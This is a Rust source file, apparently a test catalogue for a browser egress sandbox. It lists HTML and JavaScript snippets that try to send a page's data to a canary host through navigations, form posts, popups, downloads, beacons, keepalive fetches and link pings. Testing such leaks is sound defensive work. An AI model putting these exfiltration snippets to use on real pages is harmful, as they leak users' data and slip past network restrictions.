//! Leaving the page: navigations, forms, popups, downloads, and what is sent on the way out.

use super::{Vector, html, load, script};

pub(super) fn vectors() -> Vec<Vector> {
    [navigations(), forms(), popups(), downloads(), farewells()].into_iter().flatten().collect()
}

fn navigations() -> Vec<Vector> {
    vec![
        load("load of the address itself", "http://{canary}/load"),
        html("meta refresh", "<meta http-equiv=refresh content='0;url=http://{canary}/meta'>"),
        html("refresh header", "x").header("refresh", "0;url=http://{canary}/refresh"),
        script("location", "location = 'http://{canary}/location'"),
        script("location.assign", "location.assign('http://{canary}/assign')"),
        script("location.replace", "location.replace('http://{canary}/replace')"),
        script("location after a delay", "setTimeout(() => location.href = 'http://{canary}/late', 150)"),
        script("navigation API", "navigation.navigate('http://{canary}/navigation')"),
        html("click on a link by script", "<a id=a href='http://{canary}/link'>x</a><script>a.click()</script>"),
        html(
            "click on a link with a base",
            "<base href='http://{canary}/'><a id=a href=relative>x</a><script>a.click()</script>",
        ),
        html(
            "click on an area of a map",
            "<map name=m><area id=a href='http://{canary}/area' shape=default></map><img usemap=#m><script>a.click()</script>",
        ),
        html(
            "click on a link in a picture",
            "<svg><a id=a href='http://{canary}/svg'><text y=20>x</text></a></svg>
             <script>a.dispatchEvent(new MouseEvent('click', {bubbles: true}))</script>",
        ),
        script("javascript: URL", "location = \"javascript:location.href='http://{canary}/javascript'\""),
        script(
            "history entry that leads out",
            "history.pushState(1, '', '#one'); location.replace('http://{canary}/history')",
        ),
    ]
}

fn forms() -> Vec<Vector> {
    let form = |name: &str, attributes: &str, submit: &str| {
        html(
            format!("form {name}"),
            format!(
                "<iframe name=inside></iframe>
                 <form id=f {attributes}><input name=secret value=1><button id=b {submit}>x</button></form>
                 <script>b.click()</script>"
            ),
        )
    };
    vec![
        form("get", "action='http://{canary}/get'", ""),
        form("post", "method=post action='http://{canary}/post'", ""),
        form("post of files", "method=post enctype='multipart/form-data' action='http://{canary}/multipart'", ""),
        form("with formaction", "action='/blank'", "formaction='http://{canary}/formaction'"),
        form("into a new window", "target=_blank method=post action='http://{canary}/window'", ""),
        form("into a frame", "target=inside method=post action='http://{canary}/inside'", ""),
    ]
}

fn popups() -> Vec<Vector> {
    vec![
        script("popup", "open('http://{canary}/popup')"),
        script("popup without opener", "open('http://{canary}/noopener', '', 'noopener')"),
        script("popup with a size", "open('http://{canary}/sized', '', 'popup,width=200,height=200')"),
        html(
            "link into a new window",
            "<a id=a target=_blank href='http://{canary}/blank'>x</a><script>a.click()</script>",
        ),
        html(
            "link into a new window without opener",
            "<a id=a target=_blank rel=noopener href='http://{canary}/blank'>x</a><script>a.click()</script>",
        ),
        script("popup that is sent on", "open('about:blank').location = 'http://{canary}/sent'"),
        script(
            "popup that is sent on later",
            "const w = open('/blank'); setTimeout(() => w.location = 'http://{canary}/later', 300)",
        ),
        script(
            "popup that is written",
            "const w = open(''); w.document.write('<img src=\"http://{canary}/written\">')",
        ),
        script(
            "popup that fetches at once",
            "open('').fetch('http://{canary}/fetch', {mode: 'no-cors'}).catch(() => 0)",
        ),
        script(
            "popup of a blob",
            "open(URL.createObjectURL(new Blob(['<img src=http://{canary}/blob>'], {type: 'text/html'})))",
        ),
        script("popup of a popup", "const w = open(''); w.eval(\"open('http://{canary}/second')\")"),
    ]
}

fn downloads() -> Vec<Vector> {
    vec![
        html("download link", "<a id=a download href='http://{canary}/download'>x</a><script>a.click()</script>"),
        html(
            "download link over a redirect",
            "<a id=a download href='/redirect/302?to=http://{canary}/redirected'>x</a><script>a.click()</script>",
        )
        .never("a download ends before it is asked for, unless it may be written"),
        html("download in a frame", "<iframe src='/redirect/307?to=http://{canary}/framed'></iframe>"),
        script(
            "download of a page that asks for more",
            "const a = document.createElement('a'); a.download = 'x.svg';
             a.href = URL.createObjectURL(new Blob(['x'])); a.click();
             fetch('http://{canary}/more', {mode: 'no-cors'}).catch(() => 0)",
        ),
    ]
}

fn farewells() -> Vec<Vector> {
    let on = |event: &str, what: &str| {
        format!("addEventListener('{event}', () => {{ {what} }}); setTimeout(() => location = '/blank', 50)")
    };
    let beacon = "navigator.sendBeacon('http://{canary}/farewell', 'secret')";
    let keep =
        "fetch('http://{canary}/keep', {method: 'POST', mode: 'no-cors', keepalive: true, body: 's'}).catch(() => 0)";
    let image = "new Image().src = 'http://{canary}/image'";
    vec![
        script("beacon", beacon),
        script("beacon on pagehide", on("pagehide", beacon)),
        script("beacon on unload", on("unload", beacon)),
        script("beacon on beforeunload", on("beforeunload", beacon)),
        html(
            "beacon when the page goes out of sight",
            format!(
                "<script>document.addEventListener('visibilitychange', () => {beacon}); setTimeout(() => location = '/blank', 50)</script>"
            ),
        ),
        script("kept-alive request", format!("{keep}; location = '/blank'")),
        script("kept-alive request on pagehide", on("pagehide", keep)),
        script("image on pagehide", on("pagehide", image)),
        script(
            "request for later",
            "fetchLater('http://{canary}/later', {mode: 'no-cors', activateAfter: 0}); location = '/blank'",
        ),
        html("ping of a link", "<a id=a href='#' ping='http://{canary}/ping'>x</a><script>a.click()</script>")
            .never("the browser runs with pings switched off"),
    ]
}
